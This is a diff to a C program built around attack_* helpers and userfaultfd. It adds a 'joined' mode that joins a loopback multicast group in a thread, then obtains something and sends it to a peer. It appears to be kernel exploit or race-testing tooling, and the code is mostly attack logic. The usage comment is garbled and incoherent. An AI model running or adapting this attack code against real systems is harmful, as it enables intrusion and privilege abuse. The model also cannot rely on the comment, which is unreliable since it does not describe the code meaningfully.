@@ -4,7 +4,7 @@
  * what it sends by itself
  *
  * usage: option syn-ack ADDRESS READY
- *	  option blocked|again|handed|passed|filed ADDRESS
+ *	  option blocked|again|handed|passed|filed|joined ADDRESS
  *
  * syn-ack: in a routing header of a listener, port 7000, to which ADDRESS
  * connects once there is a file READY. blocked: setsockopt() copies it from
@@ -12,10 +12,11 @@
  * alive. again: the file is opened a second time if it was refused. handed: a thread
  * waits for what another process reads there, and writes twice if it has to. passed: in
  * between there is a third, whose memory we have. filed: who writes it to a file that
- * we have mapped.
+ * we have mapped. joined: another thread has joined a group before, and sets no more.
  */
 #include <linux/userfaultfd.h>
 #include <pthread.h>
+#include <semaphore.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/wait.h>
@@ -206,6 +207,30 @@ static void set_while_blocked(const char *peer, void (*obtain)(void))
 	setsockopt(sock, IPPROTO_IPV6, IPV6_DSTOPTS, NULL, 0);
 }
 
+static void *join_group(void *joined)
+{
+	struct ip_mreq group = { .imr_multiaddr.s_addr = htonl(0xef010203) };
+	int fd = attack_do("socket", socket(AF_INET, SOCK_DGRAM, 0));
+
+	group.imr_interface.s_addr = htonl(INADDR_LOOPBACK);
+	attack_do("join", setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof(group)));
+	sem_post(joined);
+	pause();
+	return NULL;
+}
+
+static void obtain_joined(const char *peer)
+{
+	pthread_t thread;
+	sem_t joined;
+
+	sem_init(&joined, 0, 0);
+	pthread_create(&thread, NULL, join_group, &joined);
+	sem_wait(&joined);
+	attack_obtain();
+	attack_send(attack_connected(peer));
+}
+
 int main(int argc, char **argv)
 {
 	union attack_addr peer;
@@ -224,6 +249,8 @@ int main(int argc, char **argv)
 	peer = attack_addr(argv[2]);
 	if (attack_is(argv, 1, "syn-ack")) {
 		answer_with_route(&peer, argv[3]);
+	} else if (attack_is(argv, 1, "joined")) {
+		obtain_joined(argv[2]);
 	} else if (attack_is(argv, 1, "handed")) {
 		from = giver_start(&go);
 		set_while_blocked(argv[2], obtain_handed);
